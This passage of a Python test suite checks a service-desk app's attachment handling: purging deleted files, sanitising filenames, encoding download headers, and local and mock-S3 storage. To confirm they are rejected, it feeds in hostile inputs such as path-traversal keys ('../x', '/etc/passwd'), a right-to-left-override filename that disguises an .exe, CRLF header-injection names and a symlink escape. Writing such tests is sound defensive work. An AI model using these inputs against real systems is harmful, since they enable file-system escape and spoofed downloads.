    await purge_deleted_attachments(desk.runtime, utc_now())

    async with desk.runtime.db.tenant_session(desk.org.id) as session:
        left = set(
            (
                await session.execute(
                    select(Attachment.id).where(Attachment.ticket_id == uuid.UUID(ticket["id"]))
                )
            ).scalars()
        )
    assert left == {uuid.UUID(recent["id"]), uuid.UUID(live["id"])}
    assert not (files_dir / keys["old"]).exists() and not (files_dir / keys["cap"]).exists()
    assert (files_dir / keys["recent"]).exists() and (files_dir / keys["live"]).exists()
    assert (await audit_actions(desk, old["id"]))[0] == "attachment.purged"
    assert (await audit_actions(desk, on_reply["id"]))[0] == "attachment.purged"
    # A second run finds nothing more to do.
    await purge_deleted_attachments(desk.runtime, utc_now())
    assert (files_dir / keys["recent"]).exists()


# Names and headers (pure functions) --------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("report.pdf", "report.pdf"),
        ("  spaced   out\tname .pdf ", "spaced out name .pdf"),
        ("a/b/c.pdf", "c.pdf"),
        ("C:\\Users\\x\\c.pdf", "c.pdf"),
        ("nul\x00byte.pdf", "nulbyte.pdf"),
        ("line\r\nbreak.pdf", "line break.pdf"),
        ("evil\u202egnp.exe", "evilgnp.exe"),
        ("zero\u200bwidth.pdf", "zerowidth.pdf"),
        ("what?.pdf", "what_.pdf"),
        ("CON.txt", "_CON.txt"),
        ("trailing dots...", "trailing dots"),
        (".hidden", "hidden"),
        ("", "file"),
        (None, "file"),
        ("\x00\x01", "file"),
        ("Résumé 東京.pdf", "Résumé 東京.pdf"),
    ],
)
def test_sanitize_filename(raw: str | None, expected: str) -> None:
    assert attachments.sanitize_filename(raw) == expected


def test_long_names_keep_their_extension() -> None:
    name = attachments.sanitize_filename("x" * 400 + ".pdf")
    assert len(name) == 255 and name.endswith(".pdf")
    name = attachments.download_name("y" * 300, filetypes.PDF)
    assert len(name) == 255 and name.endswith(".pdf")


def test_content_disposition_encodes_names() -> None:
    value = content_disposition("Résumé 東京 100%.pdf")
    assert value == (
        'attachment; filename="Resume  100_.pdf"; '
        "filename*=UTF-8''R%C3%A9sum%C3%A9%20%E6%9D%B1%E4%BA%AC%20100%25.pdf"
    )
    assert "\r" not in content_disposition("a\r\nb") and "\n" not in content_disposition("a\r\nb")


# Storage backends --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "key",
    [
        "../x",
        "a/../../b",
        "/etc/passwd",
        "a//b",
        "a/./b",
        "A/b",
        "",
        "a\\b",
        "a/b/",
        "a" * 300,
        "a\x00b",
    ],
)
def test_storage_refuses_bad_keys(tmp_path: Path, key: str) -> None:
    with pytest.raises(StorageError):
        LocalStorage(tmp_path).path_of(key)


async def test_local_storage_roundtrip_and_symlink_escape(tmp_path: Path) -> None:
    store = LocalStorage(tmp_path / "root")
    key = new_key(str(uuid.uuid4()))
    await store.put(key, b"hello")
    assert await store.get(key) == b"hello"
    opened = await store.open(key)
    assert opened.size == 5
    await opened.aclose()
    await store.delete(key)
    await store.delete(key)  # idempotent
    with pytest.raises(StorageKeyNotFound):
        await store.open(key)
    outside = tmp_path / "outside"
    outside.mkdir()
    (tmp_path / "root").mkdir(exist_ok=True)
    os.symlink(outside, tmp_path / "root" / "link")
    with pytest.raises(StorageError):
        await store.put("link/evil", b"x")
    assert not (outside / "evil").exists()


def _free_port() -> int:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@pytest.fixture
def s3_endpoint() -> Iterator[str]:
    """moto's server mode on a loopback port: a local stand-in for an external S3 service."""
    try:
        from moto.server import ThreadedMotoServer
    except ImportError as exc:  # pragma: no cover - depends on the dev extras
        message = f"moto[server] is not installed ({exc}); pip install -e '.[dev]'"
        if REQUIRE_SERVICES:
            pytest.fail(message + " (SERVICEDESK_REQUIRE_SERVICES=1)")
        pytest.skip(message)
    port = _free_port()
    server = ThreadedMotoServer(ip_address="127.0.0.1", port=port, verbose=False)
    server.start()
    try:
        yield f"http://127.0.0.1:{port}"
    finally:
        server.stop()


@pytest.fixture
async def s3_storage(s3_endpoint: str, monkeypatch: pytest.MonkeyPatch) -> S3Storage:
    for var in (
        "AWS_PROFILE",
        "AWS_SESSION_TOKEN",
        "AWS_CONFIG_FILE",
        "AWS_SHARED_CREDENTIALS_FILE",
    ):
        monkeypatch.delenv(var, raising=False)
    store = S3Storage(
        bucket="servicedesk-test",
        prefix="attachments",
        endpoint_url=s3_endpoint,
        region="us-east-1",
        access_key_id="testing",
        secret_access_key="testing",
    )
    store._client.create_bucket(Bucket="servicedesk-test")
    return store


async def test_s3_storage_roundtrip(s3_storage: S3Storage) -> None:
    key = new_key(str(uuid.uuid4()))
    data = os.urandom(300 * 1024)
    await s3_storage.put(key, data)
    listed = s3_storage._client.list_objects_v2(Bucket="servicedesk-test")["Contents"]
    assert [o["Key"] for o in listed] == [f"attachments/{key}"]
    opened = await s3_storage.open(key)
    assert opened.size == len(data)
    assert b"".join([c async for c in opened]) == data
    assert await s3_storage.get(key) == data
    await s3_storage.delete(key)
    with pytest.raises(StorageKeyNotFound):
        await s3_storage.open(key)
    with pytest.raises(StorageError):
        await s3_storage.put("../escape", b"x")


async def test_s3_storage_end_to_end(
    desk: Desk, ticket: dict[str, Any], s3_storage: S3Storage, runtime: Runtime
) -> None:
    runtime.storage = s3_storage  # the autouse fixture puts the local one back afterwards
    data = png_bytes(4, 4)
    item = await uploaded(desk.client, desk.requester, ticket["id"], "s3.png", data)
    r = await download(desk.client, desk.requester, token_of(item))
    assert r.status_code == 200 and r.content == data
    row = await stored_row(desk.runtime, desk.org, item["id"])
    assert await s3_storage.get(row.storage_key) == data


async def test_s3_unreachable_is_a_storage_error() -> None:
    store = S3Storage(
        bucket="b",
        endpoint_url=f"http://127.0.0.1:{_free_port()}",
        region="us-east-1",
        access_key_id="k",
        secret_access_key="s",
    )
    with pytest.raises(StorageError):
        await store.put(new_key("x"), b"data")


async def test_refused_upload_opens_no_transaction(
    desk: Desk, ticket: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The body is read and typed before the request's tenant transaction begins."""
    opened = 0
    real = desk.runtime.db.bind_tenant

    async def counting(*args: Any, **kwargs: Any) -> Any:
        nonlocal opened
        opened += 1
        return await real(*args, **kwargs)

    monkeypatch.setattr(desk.runtime.db, "bind_tenant", counting)
    problem(await upload(desk.client, desk.requester, ticket["id"], "x.pdf", EXE), 422)
    monkeypatch.setattr(desk.runtime.settings, "max_upload_bytes", 10)
    problem(await upload(desk.client, desk.requester, ticket["id"], "x.txt", b"a" * 11), 413)
    assert opened == 0
    monkeypatch.setattr(desk.runtime.settings, "max_upload_bytes", 10 * MiB)
    await uploaded(desk.client, desk.requester, ticket["id"], "x.txt", b"fine\n")
    assert opened == 1


async def test_attachment_events_in_ticket_history(desk: Desk, ticket: dict[str, Any]) -> None:
    item = await uploaded(desk.client, desk.agent, ticket["id"], "screen.png", png_bytes())
    r = await desk.client.delete(
        f"{TICKETS}/{ticket['id']}/attachments/{item['id']}", headers=desk.agent.headers
    )
    assert r.status_code == 204, r.text
    r = await desk.client.get(f"{TICKETS}/{ticket['id']}/history", headers=desk.admin.headers)
    assert r.status_code == 200, r.text
    actions = [e["action"] for e in r.json()]
    assert "attachment.added" in actions
    assert "attachment.deleted" in actions
